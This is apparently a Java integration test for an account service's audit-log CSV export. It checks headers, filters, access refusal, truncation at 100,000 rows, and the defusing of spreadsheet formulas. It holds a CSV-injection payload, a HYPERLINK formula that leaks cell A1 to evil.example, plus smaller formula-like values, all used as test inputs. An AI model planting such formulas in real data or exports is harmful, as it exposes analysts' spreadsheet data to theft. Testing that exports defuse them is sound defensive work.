package io.accountlifecycle.service.projections;

import io.accountlifecycle.service.HttpJson;
import io.accountlifecycle.service.ServiceInstances;
import io.accountlifecycle.service.security.Scopes;
import io.accountlifecycle.testsupport.RealKafka;
import io.accountlifecycle.testsupport.RealPostgres;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.UUID;

import static io.accountlifecycle.service.HttpJson.openAccountJson;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * {@code GET /analytics/audit.csv} on a real PostgreSQL and Kafka: the entries {@code /analytics/audit} lists, with
 * its filters, as an RFC 4180 file whose formula-like values (an actor or a reason an attacker chose) come out inert,
 * and at most 100,000 of them, saying so when more matched.
 */
@RealPostgres(database = AuditCsvIT.DATABASE)
@RealKafka
class AuditCsvIT {

    static final String DATABASE = "accounts_audit_csv";
    /** A token subject (so an actor) that a spreadsheet would run as a formula. */
    private static final String FORMULA_ACTOR = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open me\")";
    private static final String FORMULA_REASON = "-2+3, \"quoted\"\nand a second line";
    private static final List<String> HEADER = List.of("eventId", "occurredAt", "action", "actor", "accountId",
                                                       "batchId", "reason", "correlationId", "details");

    private static ConfigurableApplicationContext service;
    private static HttpJson analyst;
    private static UUID attacked;
    private static UUID plain;
    /** What the set-up recorded lies between these two: other tests add entries outside it. */
    private static String window;

    @BeforeAll
    static void recordSomeAdminActions() {
        service = ServiceInstances.start(DATABASE, "audit-csv-it", "--account.kafka.intake.enabled=false");
        Instant started = Instant.now();
        analyst = ServiceInstances.http(service, "auditor", Scopes.ANALYTICS);
        HttpJson attacker = ServiceInstances.http(service, FORMULA_ACTOR, Scopes.WRITE, Scopes.DELETE);
        HttpJson alice = ServiceInstances.http(service, "alice", Scopes.WRITE, Scopes.DELETE, Scopes.ADMIN);
        attacked = UUID.randomUUID();
        plain = UUID.randomUUID();
        assertThat(attacker.post("/accounts", openAccountJson(attacked, "a@example.com", "A", "FREE")).status())
                .isEqualTo(201);
        assertThat(alice.post("/accounts", openAccountJson(plain, "b@example.com", "B", "FREE")).status())
                .isEqualTo(201);
        assertThat(attacker.post("/accounts/" + attacked + "/deletion",
                                 "{\"reason\":\"" + FORMULA_REASON.replace("\"", "\\\"").replace("\n", "\\n") + "\"}")
                           .status()).isEqualTo(202);
        assertThat(alice.post("/accounts/" + plain + "/deletion", "{\"reason\":\"@SUM(A1:A9)\"}").status())
                .isEqualTo(202);
        assertThat(alice.post("/admin/purges/pause", "{\"reason\":\"+1 for safety\"}").status()).isEqualTo(200);
        assertThat(alice.post("/admin/purges/resume", "{\"reason\":\"done, all clear\"}").status()).isEqualTo(200);
        await().atMost(Duration.ofSeconds(30))
               .until(() -> analyst.get("/analytics/audit?size=1000").json().get("totalItems").asLong() >= 4);
        window = "from=" + started + "&to=" + Instant.now();
    }

    @AfterAll
    static void stop() {
        if (service != null) {
            service.close();
        }
    }

    @Test
    void everyEntryComesOutAsAnAttachmentWithAHeaderRecordNewestFirst() {
        HttpJson.Response csv = analyst.get("/analytics/audit.csv?" + window);
        assertThat(csv.status()).as(csv.raw()).isEqualTo(200);
        assertThat(csv.header("Content-Type")).isEqualToIgnoringCase("text/csv;charset=UTF-8");
        assertThat(csv.header("Content-Disposition"))
                .matches("attachment; filename=\"audit-log-\\d{8}T\\d{6}Z\\.csv\"");
        assertThat(csv.header("Export-Truncated")).isEqualTo("false");
        assertThat(csv.header("Cache-Control")).contains("no-store");
        assertThat(csv.raw()).startsWith(String.join(",", HEADER.stream().map(h -> "\"" + h + "\"").toList())
                                         + "\r\n");

        List<List<String>> records = parse(csv.raw());
        assertThat(records.get(0)).isEqualTo(HEADER);
        List<List<String>> entries = records.subList(1, records.size());
        assertThat(entries).hasSize(analyst.get("/analytics/audit?size=1000&" + window).json().get("totalItems")
                                           .asInt());
        assertThat(entries).hasSizeGreaterThanOrEqualTo(4);
        assertThat(entries).allSatisfy(entry -> assertThat(entry).hasSize(HEADER.size()));
        List<Instant> times = entries.stream().map(entry -> Instant.parse(entry.get(1))).toList();
        assertThat(times).isSortedAccordingTo((a, b) -> b.compareTo(a));
        assertThat(entries.stream().map(entry -> entry.get(2)).toList())
                .contains("DELETION_REQUESTED", "PURGES_PAUSED", "PURGES_RESUMED");
    }

    @Test
    void anActorOrAReasonThatLooksLikeAFormulaComesOutAsText() {
        HttpJson.Response csv = analyst.get("/analytics/audit.csv?actor=" + encode(FORMULA_ACTOR));
        assertThat(csv.status()).isEqualTo(200);
        List<List<String>> entries = entries(csv);
        assertThat(entries).hasSize(1);
        List<String> entry = entries.get(0);
        assertThat(entry.get(2)).isEqualTo("DELETION_REQUESTED");
        assertThat(entry.get(3)).isEqualTo("'" + FORMULA_ACTOR);
        assertThat(entry.get(4)).isEqualTo(attacked.toString());
        assertThat(entry.get(6)).isEqualTo("'" + FORMULA_REASON);
        assertThat(csv.raw()).as("the raw record, quotes doubled after the formula's quote")
                             .contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"open me\"\")\"");

        List<String> paused = entries(analyst.get("/analytics/audit.csv?actor=alice&action=PURGES_PAUSED")).get(0);
        assertThat(paused.get(3)).isEqualTo("alice");
        assertThat(paused.get(4)).as("no account: an empty field").isEmpty();
        assertThat(paused.get(6)).isEqualTo("'+1 for safety");
        assertThat(entries(analyst.get("/analytics/audit.csv?actor=alice&action=PURGES_RESUMED")).get(0).get(6))
                .as("not a formula: as it is").isEqualTo("done, all clear");
    }

    @Test
    void theFiltersAreThoseOfTheAuditList() {
        List<List<String>> forAccount = entries(analyst.get("/analytics/audit.csv?action=DELETION_REQUESTED&accountId="
                                                            + plain));
        assertThat(forAccount).hasSize(1);
        assertThat(forAccount.get(0).get(3)).isEqualTo("alice");
        assertThat(forAccount.get(0).get(6)).isEqualTo("'@SUM(A1:A9)");

        String first = analyst.get("/analytics/audit?sort=occurredAt,asc&size=1&actor=alice").json().get("items")
                              .get(0).get("occurredAt").asString();
        assertThat(entries(analyst.get("/analytics/audit.csv?actor=alice&to=" + first))).as("to is exclusive")
                                                                                         .isEmpty();
        assertThat(entries(analyst.get("/analytics/audit.csv?actor=alice&from=" + first))).hasSize(3);
        assertThat(entries(analyst.get("/analytics/audit.csv?actor=nobody"))).isEmpty();
        assertThat(analyst.get("/analytics/audit.csv?actor=nobody").raw()).as("the header record alone")
                                                                           .hasLineCount(1);
    }

    @Test
    void onlyAnalyticsReadersGetItAndBadFiltersAreRefused() {
        HttpJson.Response refused = ServiceInstances.http(service, "product-service", Scopes.READ, Scopes.WRITE,
                                                          Scopes.ADMIN).get("/analytics/audit.csv");
        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.header("Content-Type")).startsWith("application/problem+json");
        for (String query : List.of("accountId=nope", "from=yesterday", "actor=" + "a".repeat(256))) {
            HttpJson.Response bad = analyst.get("/analytics/audit.csv?" + query);
            assertThat(bad.status()).as(query).isEqualTo(400);
            assertThat(bad.header("Content-Type")).as(query).startsWith("application/problem+json");
        }
    }

    /**
     * 100,001 entries of one actor (mostly three to an instant, so that pages break inside a tie): the newest 100,000
     * come out, each once, and the answer says it was cut; 100,000 exactly are not cut.
     */
    @Test
    void atMostOneHundredThousandEntriesAndTheAnswerSaysWhenMoreMatched() {
        JdbcTemplate owner = ServiceInstances.owner(DATABASE);
        owner.update("""
                     insert into projection.audit_log (event_id, occurred_at, action, actor, reason)
                     select gen_random_uuid()::text, timestamptz '2020-01-01T00:00:00Z' + (i / 3) * interval '1 second',
                            'PURGES_PAUSED', 'bulk-writer', 'entry ' || i
                     from generate_series(1, 100000) i
                     union all
                     select gen_random_uuid()::text, timestamptz '2019-12-31T00:00:00Z', 'PURGES_RESUMED',
                            'bulk-writer', 'the oldest'""");
        String oldest = "the oldest";

        HttpJson.Response csv = analyst.get("/analytics/audit.csv?actor=bulk-writer");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.header("Export-Truncated")).isEqualTo("true");
        List<List<String>> entries = entries(csv);
        assertThat(entries).hasSize(100_000);
        assertThat(new HashSet<>(entries.stream().map(entry -> entry.get(0)).toList())).hasSize(100_000);
        assertThat(entries.stream().map(entry -> entry.get(6)).toList()).as("the oldest is the one left out")
                                                                        .doesNotContain(oldest);
        assertThat(entries.get(0).get(1)).isEqualTo("2020-01-01T09:15:33Z");

        HttpJson.Response exactly = analyst.get("/analytics/audit.csv?actor=bulk-writer&action=PURGES_PAUSED");
        assertThat(exactly.header("Export-Truncated")).isEqualTo("false");
        assertThat(entries(exactly)).hasSize(100_000);
    }

    private static List<List<String>> entries(HttpJson.Response csv) {
        assertThat(csv.status()).as(csv.raw()).isEqualTo(200);
        List<List<String>> records = parse(csv.raw());
        assertThat(records.get(0)).isEqualTo(HEADER);
        return records.subList(1, records.size());
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    /** RFC 4180, strictly: every record ends in CRLF; a quoted field may hold anything, its quotes doubled. */
    private static List<List<String>> parse(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int i = 0;
        while (i < text.length()) {
            if (text.charAt(i) == '"') {
                i++;
                while (true) {
                    char c = text.charAt(i++);
                    if (c == '"') {
                        if (i < text.length() && text.charAt(i) == '"') {
                            field.append('"');
                            i++;
                        } else {
                            break;
                        }
                    } else {
                        field.append(c);
                    }
                }
            } else {
                while (text.charAt(i) != ',' && text.charAt(i) != '\r') {
                    field.append(text.charAt(i++));
                }
            }
            record.add(field.toString());
            field.setLength(0);
            if (text.charAt(i) == ',') {
                i++;
            } else {
                assertThat(text.substring(i, i + 2)).as("a record ends in CRLF").isEqualTo("\r\n");
                i += 2;
                records.add(record);
                record = new ArrayList<>();
            }
        }
        return records;
    }
}
